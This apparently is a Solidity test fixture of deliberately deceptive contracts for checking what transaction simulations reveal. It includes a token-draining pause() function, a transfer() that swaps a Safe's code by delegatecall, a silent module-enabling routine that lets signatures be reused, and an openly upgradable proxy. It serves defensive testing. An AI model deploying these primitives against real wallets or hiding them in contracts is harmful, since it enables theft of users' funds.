// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

interface ISpendable {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// @title Contracts that do more than their words say, for tests of what a simulation shows.
contract Trickster {
    address private slot0; // where a Safe's proxy keeps the code that it runs

    event Nothing();

    /// @notice Takes what the caller once allowed, whatever the name says.
    function pause(ISpendable token, address thief, uint256 value) external {
        token.transferFrom(msg.sender, thief, value);
    }

    /// @notice By DELEGATECALL this gives a Safe other code, as in the theft from Bybit: the words say that a token moves.
    function transfer(address to, uint256) external {
        slot0 = to;
    }

    /// @notice By DELEGATECALL this enables a module without an event, and lets the same signatures be used again.
    function enlist(address module) external {
        assembly ("memory-safe") {
            mstore(0, module)
            mstore(32, 1)
            sstore(keccak256(0, 64), 1)
            mstore(0, 1)
            sstore(keccak256(0, 64), module)
            sstore(5, sub(sload(5), 1))
        }
    }

    /// @notice Sends on what it is sent.
    function forward(address payable to) external payable {
        (bool ok,) = to.call{value: msg.value}("");
        require(ok);
    }

    /// @notice Says something that nobody has words for.
    function murmur(uint256 times) external {
        for (uint256 i = 0; i < times; i++) emit Nothing();
    }
}

/// @title The smallest proxy that keeps its code where EIP-1967 says. Anyone may upgrade it: it is worth nothing.
contract OpenProxy {
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    event Upgraded(address indexed implementation);

    function upgradeTo(address implementation) external {
        _run(implementation);
    }

    /// @notice Does what upgradeTo does, and says nothing of it.
    function tidy(address implementation) external {
        _run(implementation);
    }

    function _run(address implementation) private {
        assembly ("memory-safe") {
            sstore(IMPLEMENTATION, implementation)
        }
        emit Upgraded(implementation);
    }
}
